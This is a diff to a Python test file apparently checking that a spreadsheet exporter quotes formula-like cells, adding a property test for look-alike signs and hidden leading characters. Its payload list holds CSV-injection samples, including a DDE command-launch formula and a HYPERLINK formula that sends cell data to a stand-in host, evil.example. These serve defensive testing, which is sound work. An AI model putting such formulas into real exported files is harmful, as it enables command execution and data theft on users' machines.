@@ -28,7 +28,7 @@ from garde.subjects import find_subject
 
 HOSTILE = Path(__file__).parent / "data" / "hostile" / "register.yaml"
 SRC = Path(__file__).resolve().parents[1] / "src" / "garde"
-NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
 PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "=1+1", "  =1+1", "\n=1+1", "\t=1+1",
             "\tplain", "\rplain", '=HYPERLINK("http://evil.example/?"&A1,"x")', "-", "'=1+1", "''@x"]
 
@@ -121,3 +121,20 @@ def test_every_csv_and_xlsx_writer_goes_through_the_spreadsheet_cells() -> None:
                  if "openpyxl" in path.read_text(encoding="utf-8")}
     assert writers == {"documents/spreadsheet.py"}
     assert workbooks == {"documents/xlsx.py", "documents/formats.py"}
+
+
+# Signs some spreadsheet locales (East Asian input methods) read as the ASCII ones, and what may
+# stand before a sign unseen: Unicode spaces and zero-width format characters.
+LOOK_ALIKE_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+BLANKS = " \u00a0\u2002\u2003\u2009\u3000\u200b\u200c\u200d\u2060\ufeff\n\x0b\x0c"
+
+
+@given(st.text(alphabet=BLANKS, max_size=4), st.sampled_from(LOOK_ALIKE_SIGNS), st.text(max_size=20))
+def test_a_look_alike_sign_behind_any_blank_is_quoted_and_back(blanks: str, sign: str, rest: str) -> None:
+    text = blanks + sign + rest
+    written = spreadsheet_text(text)
+    if NUMBER.fullmatch(text):  # a plain ASCII number (-12.5) is a number, not a formula
+        assert written == text
+    else:
+        assert written == "'" + text, repr(text)
+    assert from_spreadsheet_text(written) == text
